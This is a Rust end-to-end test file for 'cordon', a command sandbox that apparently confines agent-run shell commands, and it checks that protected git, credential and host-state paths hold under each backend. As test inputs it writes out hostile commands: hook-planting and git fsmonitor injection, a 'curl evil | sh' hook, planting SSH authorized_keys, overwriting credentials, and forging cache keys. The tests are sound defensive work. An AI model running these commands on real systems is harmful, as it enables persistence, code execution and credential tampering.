//! The grant (policy world `0.2.0`), tried from outside under every
//! backend, with the host checked after each attempt: protected paths stay
//! read-only and uncreatable in `workspace-write` (under Landlock by the
//! launcher's file supervisor, with `chmod +x` of a workspace file working
//! and `chmod` outside refused), a deny-read path is unreadable while its
//! siblings are not, an extra writable root is writable, a grant wider than
//! the operator's ceilings is refused naming the field, an *ask* is a
//! structured error whose approved re-send runs, and a component built
//! against world `0.1.0` still runs and keeps the grant it was handed.

use std::path::Path;

use serde_json::{Value, json};

use crate::common::{
    self, component, confined_backends, run_json, sandbox, workspace, workspace_write,
};

/// `git` in `dir` (no user config needed).
fn git(dir: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=e2e", "-c", "user.email=e2e@cordon.invalid"])
        .args(args)
        .status()
        .expect("run git");
    assert!(status.success(), "git {args:?}");
}

/// A repository with one commit, a hook directory and a `.bashrc`.
fn repository(dir: &Path) {
    git(dir, &["init", "-q", "."]);
    std::fs::write(dir.join("tracked.txt"), "one\n").unwrap();
    git(dir, &["add", "tracked.txt"]);
    git(dir, &["commit", "-qm", "one"]);
    std::fs::write(dir.join(".bashrc"), "# mine\n").unwrap();
}

/// Run each of `attacks` in `root` with `args`: every one must fail.
fn each_refused(root: &Path, args: &[&str], backend: &[&str], attacks: &[&str]) {
    for attack in attacks {
        let (code, result) = run_json(root, args, attack);
        assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
    }
}

/// `--grant` for `policy`.
fn grant_args<'a>(backend: &[&'a str], policy: &'a str) -> Vec<&'a str> {
    let mut args = backend.to_vec();
    args.extend(["--grant", policy]);
    args
}

#[test]
fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
    for (backend, _) in confined_backends("in_workspace_write_the_protected_paths_hold") {
        let ws = workspace();
        let root = ws.path();
        repository(root);
        let config = std::fs::read(root.join(".git/config")).unwrap();
        let args = workspace_write(backend, root.to_str().unwrap());

        // Positive control: ordinary writes, `git status`, `git diff` and
        // `chmod +x` of a workspace file.
        let (code, result) = run_json(
            root,
            &args,
            "echo two >> tracked.txt && echo new > new.txt && git status --short && \
             git diff --stat && printf '#!/bin/sh\\necho ran\\n' > tool.sh && chmod +x tool.sh && \
             ./tool.sh",
        );
        assert_eq!(code, 0, "{backend:?}: {result}");
        let out = result["stdout"]["text"].as_str().unwrap();
        assert!(
            out.contains(" M tracked.txt") && out.contains("?? new.txt"),
            "{out}"
        );
        assert!(out.contains("ran"), "{out}");
        assert_eq!(
            std::fs::read_to_string(root.join("new.txt")).unwrap(),
            "new\n"
        );
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(root.join("tool.sh"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o111, 0o111, "{backend:?}: chmod +x did not land");
        // Nothing of the protected paths is partial on any rung.
        let partial = result["grant"]["partial"].to_string();
        assert!(!partial.contains("protected"), "{backend:?}: {partial}");
        let protected = result["grant"]["protected"].to_string();
        for path in [
            ".git/config",
            ".git/hooks",
            ".bashrc",
            ".profile",
            ".cordon",
        ] {
            assert!(
                protected.contains(&format!("/{path}\"")),
                "{path}: {protected}"
            );
        }

        // Outside the workspace, a file of the run's own user stays as it is.
        let outside = ws.path().with_extension("outside");
        std::fs::write(&outside, "mine\n").unwrap();
        std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).unwrap();

        each_refused(
            root,
            &args,
            backend,
            &[
                "echo '[core] hooksPath = /tmp' >> .git/config",
                "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
                "mv .git .git-away",
                "rm -rf .git/hooks",
                "echo evil >> .bashrc",
                "mkdir .cordon",
                "echo evil > .profile",
                "ln -s /tmp .git/hooks/pre-push",
                "ln tracked.txt .git/hooks/post-checkout",
                "chmod 0777 .git/config",
                "touch -d 2001-01-01 .git/hooks",
                &format!("chmod 0777 {}", outside.display()),
            ],
        );
        let mode = std::fs::metadata(&outside).unwrap().permissions().mode();
        std::fs::remove_file(&outside).unwrap();
        assert_eq!(mode & 0o777, 0o644, "{backend:?}: chmod outside landed");
        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
        assert!(
            !root.join(".git/hooks/pre-push").exists()
                && !root.join(".git/hooks/post-checkout").exists()
        );
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert!(root.join(".git/HEAD").is_file() && !root.join(".git-away").exists());
        assert!(root.join(".git/hooks").is_dir());
        assert_eq!(
            std::fs::read_to_string(root.join(".bashrc")).unwrap(),
            "# mine\n"
        );
        // The placeholders that kept the absent ones from being made are gone.
        for absent in [".cordon", ".profile", ".zshrc"] {
            assert!(!root.join(absent).exists(), "{absent} left on the host");
        }
    }
}

/// The shell line of an agent's day in git: add, commit, a branch, a
/// stash, a rebase and a merge.
const AGENT_GIT: &str = "export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@cordon.invalid \
     GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@cordon.invalid GIT_EDITOR=true && \
     git checkout -q -b feature && echo a > a.txt && git add a.txt && git commit -qm a && \
     git checkout -q - && echo b > b.txt && git add b.txt && git commit -qm b && \
     echo wip >> tracked.txt && git stash -q && git stash pop -q && git commit -qam wip && \
     git checkout -q feature && git rebase -q - && git checkout -q - && \
     git merge -q --no-edit feature && git tag agent-done && git log --format=%s";

#[test]
fn an_agent_commits_its_work_and_git_code_stays_read_only_at_any_depth() {
    for (backend, _) in confined_backends("an_agent_commits_its_work") {
        let ws = workspace();
        let root = ws.path();
        repository(root);
        let nested = root.join("vendor/lib");
        std::fs::create_dir_all(&nested).unwrap();
        repository(&nested);
        git(root, &["worktree", "add", "-q", "wt"]);
        let before = |path: &str| std::fs::read(root.join(path)).ok();
        let kept = [
            ".git/config",
            ".git/worktrees/wt/commondir",
            "wt/.git",
            "vendor/lib/.git/config",
        ]
        .map(|path| (path, before(path)));
        let args = workspace_write(backend, root.to_str().unwrap());

        // Positive control: the day's git works, and lands on the host.
        let (code, result) = run_json(root, &args, AGENT_GIT);
        assert_eq!(code, 0, "{backend:?}: {result}");
        let log = std::process::Command::new("git")
            .current_dir(root)
            .args(["log", "--format=%s", "agent-done"])
            .output()
            .unwrap();
        let log = String::from_utf8_lossy(&log.stdout);
        for subject in ["a", "b", "wip", "one"] {
            assert!(log.lines().any(|l| l == subject), "{backend:?}: {log}");
        }

        each_refused(
            root,
            &args,
            backend,
            &[
                "echo '[core]\n\tfsmonitor = touch /tmp/pwned' >> .git/config",
                "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
                "printf '#!/bin/sh\\nexit 0\\n' > vendor/lib/.git/hooks/pre-commit",
                "echo '[core]\n\thooksPath = /tmp' >> vendor/lib/.git/config",
                "echo '* filter=evil' > .git/info/attributes",
                "echo ../../evil > .git/commondir",
                "echo /tmp > .git/worktrees/wt/commondir",
                "echo 'gitdir: /tmp' > wt/.git",
                "mv .git .git-away",
                "mv vendor vendor-away",
                "mv vendor/lib/.git vendor/lib/.git-away",
                "rm -rf vendor/lib/.git/hooks",
            ],
        );
        for (path, was) in &kept {
            assert_eq!(&before(path), was, "{backend:?}: {path} changed");
        }
        for planted in [
            ".git/hooks/pre-commit",
            "vendor/lib/.git/hooks/pre-commit",
            ".git/info/attributes",
            ".git/commondir",
            ".git-away",
            "vendor-away",
        ] {
            assert!(!root.join(planted).exists(), "{backend:?}: {planted}");
        }
        assert!(root.join("vendor/lib/.git/hooks").is_dir());
        assert!(!Path::new("/tmp/pwned").exists());
        // The placeholders git reads are gone, and git reads the host as it was.
        git(root, &["status", "--short"]);
        git(&nested, &["status", "--short"]);
    }
}

#[test]
fn where_git_was_absent_git_init_cannot_plant_a_hook() {
    for (backend, _) in confined_backends("where_git_was_absent_git_init_cannot_plant_a_hook") {
        let ws = workspace();
        let root = ws.path();
        let args = workspace_write(backend, root.to_str().unwrap());
        each_refused(
            root,
            &args,
            backend,
            &[
                "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
                "mkdir elsewhere && mv elsewhere .git",
                "ln -s /tmp .git",
                "printf 'exit 0' > .bashrc",
            ],
        );
        assert!(
            !root.join(".git").exists() && !root.join(".git").is_symlink(),
            "{backend:?}: a .git was left on the host"
        );
        assert!(!root.join(".bashrc").exists(), "{backend:?}: a .bashrc");
        // Positive control: the same run may create what is not protected.
        let (code, result) = run_json(
            root,
            &args,
            "mkdir -p src/git && echo ok > src/git/hooks && rm -r elsewhere",
        );
        assert_eq!(code, 0, "{backend:?}: {result}");
        assert!(root.join("src/git/hooks").is_file());
    }
}

#[test]
fn a_deny_read_path_is_unreadable_and_its_siblings_are_not() {
    for (backend, _) in confined_backends("a_deny_read_path_is_unreadable") {
        let ws = workspace();
        let root = ws.path();
        let home = root.join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::create_dir_all(home.join("notes")).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), "TOPSECRET-KEY\n").unwrap();
        std::fs::write(home.join(".netrc"), "TOPSECRET-NETRC\n").unwrap();
        std::fs::write(home.join("notes/todo"), "visible\n").unwrap();
        let policy = json!({
            "mode": "read-only",
            "workspaceRoot": root,
            "denyRead": [home.join(".ssh"), home.join(".netrc")],
        })
        .to_string();
        let (code, result) = run_json(
            &home,
            &grant_args(backend, &policy),
            "cat notes/todo; cat .ssh/id_ed25519; cat .netrc; ls .ssh; true",
        );
        assert_eq!(code, 0, "{backend:?}: {result}");
        let out = result["stdout"]["text"].as_str().unwrap();
        assert!(
            out.contains("visible"),
            "{backend:?}: the sibling stays readable: {result}"
        );
        assert!(!out.contains("TOPSECRET"), "{backend:?}: {result}");
        let hidden = result["grant"]["denyRead"].to_string();
        assert!(
            hidden.contains(".ssh") && hidden.contains(".netrc"),
            "{hidden}"
        );
        if backend.contains(&"landlock") {
            assert_eq!(sandbox(&result)["enforcement"], "partial", "{result}");
            assert!(
                result["grant"]["partial"]
                    .to_string()
                    .contains("can still be listed"),
                "{result}"
            );
        }
    }
}

#[test]
fn an_extra_writable_root_is_writable_and_nothing_beside_it() {
    for (backend, _) in confined_backends("an_extra_writable_root_is_writable") {
        let ws = workspace();
        let root = ws.path().join("ws");
        let cache = ws.path().join("npm-cache");
        let other = ws.path().join("other");
        for dir in [&root, &cache, &other] {
            std::fs::create_dir_all(dir).unwrap();
        }
        let policy = json!({
            "mode": "workspace-write",
            "workspaceRoot": root,
            "writableRoots": [cache],
        })
        .to_string();
        // Outside the workspace, a writable root must be the operator's
        // to give: without `allowed_roots` it is above the ceiling.
        let write = format!("echo hit > {}/entry", cache.display());
        let (code, result) = run_json(&root, &grant_args(backend, &policy), &write);
        assert_eq!(code, 64, "{backend:?}: {result}");
        assert_eq!(result["error"]["field"], "policy.writableRoots", "{result}");
        assert!(!cache.join("entry").exists());
        let config = ws.path().join("cordon.toml");
        std::fs::write(
            &config,
            format!("allowed_roots = [{:?}]\n", ws.path().to_str().unwrap()),
        )
        .unwrap();
        let mut args = grant_args(backend, &policy);
        args.extend(["--config", config.to_str().unwrap()]);
        let (code, result) = run_json(&root, &args, &write);
        assert_eq!(code, 0, "{backend:?}: {result}");
        assert_eq!(
            std::fs::read_to_string(cache.join("entry")).unwrap(),
            "hit\n"
        );
        let roots = result["grant"]["writableRoots"].to_string();
        assert!(roots.contains("npm-cache"), "{roots}");
        let (code, result) = run_json(&root, &args, &format!("echo x > {}/f", other.display()));
        assert_ne!(code, 0, "{backend:?}: {result}");
        assert!(
            !other.join("f").exists(),
            "{backend:?}: a write beside the roots landed"
        );
    }
}

/// `cordon run --json` with a config file of `config` and `policy` as the
/// grant: the exit code and the JSON.
fn with_config(dir: &Path, config: &str, policy: &Value, command: &str) -> (i32, Value) {
    let file = dir.join("cordon.toml");
    std::fs::write(&file, config).unwrap();
    let policy = policy.to_string();
    run_json(
        dir,
        &["--config", file.to_str().unwrap(), "--grant", &policy],
        command,
    )
}

#[test]
fn the_narrow_git_grant_lifts_the_hooks_and_keeps_the_config() {
    for (backend, _) in confined_backends("the_narrow_git_grant") {
        let ws = workspace();
        let root = ws.path().join("ws");
        std::fs::create_dir_all(&root).unwrap();
        repository(&root);
        let config = std::fs::read(root.join(".git/config")).unwrap();
        let file = ws.path().join("cordon.toml");
        std::fs::write(&file, "liftable_protected = [\".git/hooks\"]\n").unwrap();
        let policy = json!({
            "mode": "workspace-write", "workspaceRoot": root, "unprotected": [".git/hooks"],
        })
        .to_string();
        let mut args = backend.to_vec();
        args.extend(["--config", file.to_str().unwrap(), "--grant", &policy]);
        let line = "printf '#!/bin/sh\\n' > .git/hooks/pre-commit";
        let (code, result) = run_json(&root, &args, line);
        assert_eq!(code, 0, "{backend:?}: {result}");
        assert!(root.join(".git/hooks/pre-commit").is_file());
        let (code, result) = run_json(&root, &args, "echo '[x]' >> .git/config");
        assert_ne!(code, 0, "{backend:?}: {result}");
        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
        // Not liftable by the operator: the grant is refused, naming it.
        std::fs::write(&file, "").unwrap();
        let (code, result) = run_json(&root, &args, "true");
        assert_ne!(code, 0, "{backend:?}: {result}");
        assert_eq!(result["error"]["code"], "INVALID_REQUEST", "{result}");
    }
}

#[test]
fn a_grant_wider_than_the_operators_ceilings_is_refused_naming_the_field() {
    let ws = workspace();
    let root = ws.path().join("ws");
    let outside = ws.path().join("outside");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let marker = root.join("ran");
    let touch = format!("touch {}", marker.display());
    let allowed = format!("allowed_roots = [{:?}]\n", root.to_str().unwrap());
    let base = json!({"mode": "workspace-write", "workspaceRoot": root});
    let with = |field: &str, value: Value| {
        let mut policy = base.clone();
        policy[field] = value;
        policy
    };
    for (config, policy, field, says) in [
        (
            allowed.clone(),
            with("writableRoots", json!([outside])),
            Some("policy.writableRoots"),
            "allowed_roots: ",
        ),
        (
            "max_network = \"none\"\n".to_owned(),
            with(
                "network",
                json!({"allow": [{"host": "github.com", "port": 22}]}),
            ),
            Some("policy.network"),
            "max_network: none",
        ),
        (
            "max_network = [\"*.npmjs.org:443\"]\n".to_owned(),
            with("network", json!("full")),
            Some("policy.network"),
            "max_network: allow [*.npmjs.org:443]",
        ),
        (
            String::new(),
            with("sockets", json!(["/run/ssh-agent.sock"])),
            Some("policy.sockets"),
            "sockets: none",
        ),
        (
            String::new(),
            with("unprotected", json!([".git"])),
            Some("policy.unprotected"),
            "liftable: none",
        ),
        (
            String::new(),
            with("denyRead", json!(["/"])),
            None,
            "cannot be hidden",
        ),
        (
            String::new(),
            with("denyRead", json!([ws.path()])),
            None,
            "contains the writable root",
        ),
        // Hiding what every confined command needs (the shell, its loader,
        // cordon's own binary) is the request's fault, not a missing
        // sandbox: it is refused before any runner starts.
        (
            String::new(),
            with("denyRead", json!(["/usr"])),
            None,
            "policy.denyRead: /usr contains",
        ),
        (
            String::new(),
            with(
                "denyRead",
                json!([std::path::Path::new(env!("CARGO_BIN_EXE_cordon"))
                    .parent()
                    .unwrap()]),
            ),
            None,
            "cordon's own binary",
        ),
    ] {
        let (code, result) = with_config(ws.path(), &config, &policy, &touch);
        assert_eq!(code, 64, "{policy}: {result}");
        assert_eq!(result["error"]["code"], "INVALID_REQUEST", "{result}");
        let message = result["error"]["message"].as_str().unwrap();
        assert!(message.contains(says), "{says}: {message}");
        if let Some(field) = field {
            assert_eq!(result["error"]["field"], field, "{result}");
        }
        assert!(!marker.exists(), "{policy}: the command ran");
    }
    // The same grants inside the ceilings run (no runner needed to check
    // the network and socket ceilings: they are checked before any spawn).
    if common::bwrap_usable("a_grant_wider_than_the_operators_ceilings") {
        let config = "max_network = [\"*.npmjs.org:443\"]\nliftable_protected = [\".git\"]\n";
        let policy = json!({
            "mode": "workspace-write",
            "workspaceRoot": root,
            "network": {"allow": [{"host": "registry.npmjs.org", "port": 443}]},
            "unprotected": [".git"],
        });
        let line = format!("mkdir {0}/.git && echo ok > {0}/.git/x", root.display());
        let (code, result) = with_config(ws.path(), config, &policy, &line);
        assert_eq!(code, 0, "{result}");
        assert!(
            root.join(".git/x").is_file(),
            "a lifted default is writable"
        );
        // Under bwrap the host's proxy carries the allow-list.
        assert_eq!(
            result["grant"]["network"]["allow"][0]["host"], "registry.npmjs.org",
            "{result}"
        );
    }
}

#[test]
fn an_ask_is_a_structured_error_and_the_approved_resend_runs() {
    if !common::bwrap_usable("an_ask_is_a_structured_error") {
        return;
    }
    let ws = workspace();
    let root = ws.path();
    std::fs::create_dir_all(root.join("build/obj")).unwrap();
    let rules = component("rules-policy.wasm");
    let settings = common::rule_file();
    let config = common::full_network_config();
    let base = [
        "--policy",
        rules.to_str().unwrap(),
        "--settings",
        settings.to_str().unwrap(),
        "--backend",
        "bwrap",
        "--config",
        config.to_str().unwrap(),
    ];
    let mut asking = base.to_vec();
    asking.extend([
        "--mode",
        "workspace-write",
        "--workspace",
        root.to_str().unwrap(),
    ]);
    let (code, result) = run_json(root, &asking, "rm -rf build");
    assert_eq!(code, 75, "{result}");
    let error = &result["error"];
    assert_eq!(error["code"], "APPROVAL_REQUIRED");
    assert_eq!(error["reason"], "a recursive delete cannot be undone");
    assert_eq!(error["policy"]["mode"], "workspace-write");
    assert!(root.join("build/obj").is_dir(), "an ask ran");

    // Approved with the proposed grant: it runs, under that grant.
    let proposed = error["policy"].to_string();
    let mut approved = base.to_vec();
    approved.extend(["--approved", "--grant", &proposed]);
    let (code, result) = run_json(root, &approved, "rm -rf build");
    assert_eq!(code, 0, "{result}");
    assert!(!root.join("build").exists());
    assert_eq!(sandbox(&result)["mode"], "workspace-write");

    // An approval whose policy lacks what the rule grants is asked again:
    // `git push` needs github.com:22, and this grant does not carry it.
    let (code, result) = run_json(root, &approved, "git push nowhere 2>/dev/null; echo pushed");
    assert_eq!(code, 75, "{result}");
    let push = result["error"]["policy"].clone();
    assert_eq!(
        push["network"],
        json!({"allow": [{"host": "github.com", "port": 22}]})
    );
    let push = push.to_string();
    let mut pushing = base.to_vec();
    pushing.extend(["--approved", "--grant", &push]);
    let (code, result) = run_json(root, &pushing, "git push nowhere 2>/dev/null; echo pushed");
    assert_eq!(code, 0, "{result}");
    assert_eq!(result["stdout"]["text"], "pushed\n");
    assert_eq!(
        result["grant"]["network"],
        json!({"allow": [{"host": "github.com", "port": 22}]}),
        "the approved grant's network, through the proxy: {result}"
    );

    // A deny is final, approved or not.
    let (code, result) = run_json(root, &approved, "curl https://example.com");
    assert_eq!(code, 77, "{result}");
    assert_eq!(result["error"]["code"], "POLICY_DENIED");
}

#[tokio::test]
async fn the_library_returns_the_ask_and_runs_the_approved_request() {
    let ws = workspace();
    let rules = component("rules-policy.wasm");
    let mut deployment = cordon::Deployment::in_dir(ws.path());
    deployment.max_mode = cordon::SandboxMode::DangerFullAccess;
    deployment.settings = cordon::config::read_settings(&common::rule_file()).unwrap();
    let host = cordon::Host::builder()
        .policy(cordon::PolicySource::File(rules))
        .deployment(deployment)
        .build()
        .unwrap();
    let request = common::danger(ws.path(), "rm -rf nothing-here && echo removed");
    let err = host.run(request.clone()).await.unwrap_err();
    let cordon::RunError::ApprovalRequired { reason, policy } = err else {
        panic!("expected an ask, got {err}");
    };
    assert_eq!(reason, "a recursive delete cannot be undone");
    let result = host.run(request.approved_with(*policy)).await.unwrap();
    assert_eq!(result.stdout.text, "removed\n");
}

#[test]
fn a_world_0_1_0_component_still_runs_and_keeps_the_grant_it_was_handed() {
    let ws = workspace();
    let legacy = component("legacy-policy.wasm");
    let legacy = legacy.to_str().unwrap();
    let (code, out) = common::cordon_out(ws.path(), &["policy", "check", legacy]);
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.contains("implements cordon:sandbox/executor-policy@0.1.0"),
        "{out}"
    );
    for (backend, _) in confined_backends("a_world_0_1_0_component_still_runs") {
        let secret = ws.path().join("secret");
        std::fs::create_dir_all(&secret).unwrap();
        std::fs::write(secret.join("key"), "TOPSECRET\n").unwrap();
        let policy = json!({
            "mode": "read-only",
            "workspaceRoot": ws.path(),
            "denyRead": [secret],
        })
        .to_string();
        let mut args = vec!["--policy", legacy];
        args.extend(grant_args(backend, &policy));
        let (code, result) = run_json(ws.path(), &args, "echo legacy; cat secret/key; true");
        assert_eq!(code, 0, "{backend:?}: {result}");
        assert_eq!(
            result["stdout"]["text"], "legacy\n",
            "{backend:?}: {result}"
        );
        assert_eq!(sandbox(&result)["mode"], "read-only");
        assert!(result["grant"]["denyRead"].to_string().contains("secret"));
    }
    // Settings are refused: world 0.1.0 has no validate-settings.
    let settings = ws.path().join("s.toml");
    std::fs::write(&settings, "x = 1\n").unwrap();
    let (code, stderr) = common::cordon_in(
        ws.path(),
        &[
            "run",
            "--policy",
            legacy,
            "--settings",
            settings.to_str().unwrap(),
            "--",
            "true",
        ],
    );
    assert_eq!(code, Some(70), "{stderr}");
    assert!(stderr.contains("takes no settings"), "{stderr}");
}

#[test]
fn the_deployed_config_and_policy_files_are_protected_where_a_run_may_write() {
    for (backend, _) in confined_backends("the_deployed_config_and_policy_files_are_protected") {
        deployed_files_hold(backend);
    }
}

/// The deployed config and policy inside the workspace hold under `backend`.
fn deployed_files_hold(backend: &[&str]) {
    let ws = workspace();
    let root = ws.path();
    let config = root.join("cordon.toml");
    std::fs::write(&config, "max_mode = \"workspace-write\"\n").unwrap();
    let policy = root.join("policy.wasm");
    std::fs::copy(component("bash-sandbox.wasm"), &policy).unwrap();
    let before = std::fs::read(&policy).unwrap();
    let mut args = vec![
        "--config",
        config.to_str().unwrap(),
        "--policy",
        policy.to_str().unwrap(),
    ];
    args.extend(workspace_write(backend, root.to_str().unwrap()));
    for attack in [
        "echo 'max_mode = \"danger-full-access\"' >> cordon.toml",
        "echo x > policy.wasm",
        "mv cordon.toml old.toml",
        "rm -f policy.wasm",
    ] {
        let (code, result) = run_json(root, &args, attack);
        assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
    }
    assert_eq!(
        std::fs::read_to_string(&config).unwrap(),
        "max_mode = \"workspace-write\"\n"
    );
    assert_eq!(std::fs::read(&policy).unwrap(), before);
    let (code, result) = run_json(root, &args, "echo ok > beside.txt");
    assert_eq!(code, 0, "{result}");
    let protected = result["grant"]["protected"].to_string();
    assert!(
        protected.contains("cordon.toml") && protected.contains("policy.wasm"),
        "{protected}"
    );
}

#[tokio::test]
async fn a_background_task_reports_the_grant_it_runs_under() {
    if !common::bwrap_usable("a_background_task_reports_the_grant") {
        return;
    }
    let ws = workspace();
    let host = cordon::Host::builder()
        .deployment(cordon::Deployment::in_dir(ws.path()))
        .sandbox(cordon::sandbox::SandboxConfig {
            backend: cordon::sandbox::BackendChoice::Bwrap,
            ..Default::default()
        })
        .build()
        .unwrap();
    let mut policy = cordon::SandboxPolicy::new(cordon::SandboxMode::WorkspaceWrite, ws.path());
    policy.deny_read.push(ws.path().join("secret"));
    let task = host
        .start(cordon::ExecRequest::new("true").with_policy(policy))
        .await
        .unwrap();
    let done = task.wait(Some(std::time::Duration::from_secs(10))).await;
    assert_eq!(done.exit_code, Some(0), "{done:?}");
    let grant = done.grant.expect("a confined task reports its grant");
    assert_eq!(grant.writable_roots, [ws.path().canonicalize().unwrap()]);
    assert!(grant.protected.iter().any(|p| p.ends_with(".git")));
    assert!(grant.deny_read.iter().any(|p| p.ends_with("secret")));
}

#[test]
fn a_symlink_left_in_the_workspace_cannot_point_the_hosts_placeholders_elsewhere() {
    if !common::bwrap_usable("a_symlink_left_in_the_workspace") {
        return;
    }
    let ws = workspace();
    let root = ws.path().join("ws");
    let elsewhere = ws.path().join("elsewhere");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    // What a Landlock run (which cannot protect .git) could have left.
    std::os::unix::fs::symlink(&elsewhere, root.join(".git")).unwrap();
    let args = workspace_write(&["--backend", "bwrap"], root.to_str().unwrap());
    let (code, result) = run_json(&root, &args, "echo ok > file; ls .git/ 2>&1; true");
    assert_eq!(code, 0, "{result}");
    assert!(
        !elsewhere.join("hooks").exists(),
        "the host made a placeholder through the link"
    );
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
    assert!(
        result["grant"]["partial"]
            .to_string()
            .contains(".git is a symlink"),
        "{result}"
    );
    assert_eq!(sandbox(&result)["enforcement"], "partial");
}

#[test]
fn rules_policys_own_grant_hides_the_credentials_of_every_run() {
    let backends = confined_backends("rules_policys_own_grant_hides_the_credentials");
    for (backend, _) in backends {
        let ws = workspace();
        let home = ws.path().join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), "TOPSECRET\n").unwrap();
        std::fs::write(home.join("notes"), "visible\n").unwrap();
        let rules = component("rules-policy.wasm");
        let settings = common::rule_file();
        let output = common::cordon()
            .current_dir(ws.path())
            .env("HOME", &home)
            .args([
                "run",
                "--json",
                "--policy",
                rules.to_str().unwrap(),
                "--settings",
            ])
            .arg(&settings)
            .args(backend)
            .arg("--")
            .arg(format!(
                "cat {0}/notes; cat {0}/.ssh/id_ed25519; true",
                home.display()
            ))
            .output()
            .unwrap();
        let result = common::parse(&output);
        assert_eq!(output.status.code(), Some(0), "{backend:?}: {result}");
        assert_eq!(
            result["stdout"]["text"], "visible\n",
            "{backend:?}: {result}"
        );
        let hidden = result["grant"]["denyRead"].to_string();
        assert!(
            hidden.contains(&format!("{}/.ssh", home.display())),
            "{hidden}"
        );
    }
}

#[test]
fn the_hosts_own_state_is_hidden_from_every_run_under_every_backend() {
    // The component cache (its MAC key beside the compiled blobs) and the
    // remembered verdicts lie in the workspace here, as they do for a run
    // rooted at $HOME: a command that could write the cache would have the
    // next host run native code of its choosing; one that could write a
    // verdict would move runs down the ladder. bwrap hides them; Landlock
    // cannot, so such a run fails closed there, nothing run.
    for (flags, _denial) in confined_backends("the_hosts_own_state_is_hidden…") {
        let landlock = flags.contains(&"landlock");
        let ws = workspace();
        let cache = ws.path().join("component-cache");
        let xdg = ws.path().join("xdg");
        let verdicts = xdg.join("cordon/verdicts");
        let attack = format!(
            "cat {c}/key | od -An -tx1 | head -c 64; ls -a {c} {v}; \
             echo forged > {c}/evil.cwasm; echo forged > {c}/key; \
             echo forged > {v}/forged; echo inside > {w}/inside; echo done",
            c = cache.display(),
            v = verdicts.display(),
            w = ws.path().display()
        );
        let output = common::cordon()
            .current_dir(ws.path())
            .env("XDG_CACHE_HOME", &xdg)
            .arg("run")
            .arg("--json")
            .args(flags)
            .arg("--component-cache")
            .arg(&cache)
            .args(["--mode", "workspace-write", "--workspace"])
            .arg(ws.path())
            .arg("--")
            .arg(&attack)
            .output()
            .unwrap();
        let result = common::parse(&output);
        let key = std::fs::read(cache.join("key")).expect("the host made its cache key");
        assert_eq!(key.len(), 32, "{flags:?}: the key is the host's");
        assert!(
            !cache.join("evil.cwasm").exists(),
            "{flags:?}: a blob was planted"
        );
        assert!(verdicts.is_dir(), "the host made its verdict directory");
        assert!(
            !verdicts.join("forged").exists(),
            "{flags:?}: a verdict was planted"
        );
        let inside = ws.path().join("inside");
        if landlock {
            assert_eq!(output.status.code(), Some(69), "{result}");
            assert_eq!(result["error"]["code"], "SANDBOX_UNAVAILABLE");
            let message = result["error"]["message"].as_str().unwrap();
            assert!(
                message.contains("cannot be hidden from this run under Landlock")
                    && message.contains(&cache.display().to_string()),
                "{message}"
            );
            assert!(!inside.exists(), "nothing ran");
            continue;
        }
        let key_hex: String = key[..8].iter().map(|b| format!(" {b:02x}")).collect();
        let stdout = result["stdout"]["text"].as_str().unwrap();
        assert!(stdout.ends_with("done\n"), "{flags:?}: {result}");
        assert!(
            !stdout.contains(key_hex.trim()),
            "{flags:?}: the key leaked: {stdout}"
        );
        // The positive control: the rest of the workspace is writable.
        assert_eq!(std::fs::read_to_string(&inside).unwrap(), "inside\n");
    }
}

/// A workspace that is the user's home: its credential directories are
/// protected on every rung (`authorized_keys`, an AWS key or a kube
/// config cannot be planted or changed), while the rest of it is writable.
#[test]
fn the_users_credential_directories_hold_in_a_home_workspace() {
    for (backend, _) in confined_backends("the_users_credential_directories_hold") {
        let ws = workspace();
        let home = ws.path();
        std::fs::create_dir(home.join(".aws")).unwrap();
        std::fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
        let mut args = backend.to_vec();
        args.extend([
            "--mode",
            "workspace-write",
            "--workspace",
            home.to_str().unwrap(),
        ]);
        let attempt = "mkdir -p ~/.ssh && echo planted >> ~/.ssh/authorized_keys; \
                       echo changed > ~/.aws/credentials; mkdir -p ~/.kube && echo x > ~/.kube/config; \
                       echo fine > ~/notes; cat ~/notes";
        // cordon's own cache stays out of the home (Landlock cannot hide
        // it inside a writable root).
        let cache = workspace();
        let output = common::cordon()
            .current_dir(home)
            .env("HOME", home)
            .env("XDG_CACHE_HOME", cache.path())
            .args(["run", "--json"])
            .args(&args)
            .args(["--", attempt])
            .output()
            .unwrap();
        let result = common::parse(&output);
        assert_eq!(result["stdout"]["text"], "fine\n", "{backend:?}: {result}");
        assert!(
            !home.join(".ssh/authorized_keys").exists(),
            "{backend:?}: {result}"
        );
        assert!(!home.join(".kube/config").exists(), "{backend:?}: {result}");
        assert_eq!(
            std::fs::read_to_string(home.join(".aws/credentials")).unwrap(),
            "[default]\n",
            "{backend:?}"
        );
        let protected = result["grant"]["protected"].to_string();
        assert!(
            protected.contains(".ssh") && protected.contains(".aws"),
            "{protected}"
        );
    }
}
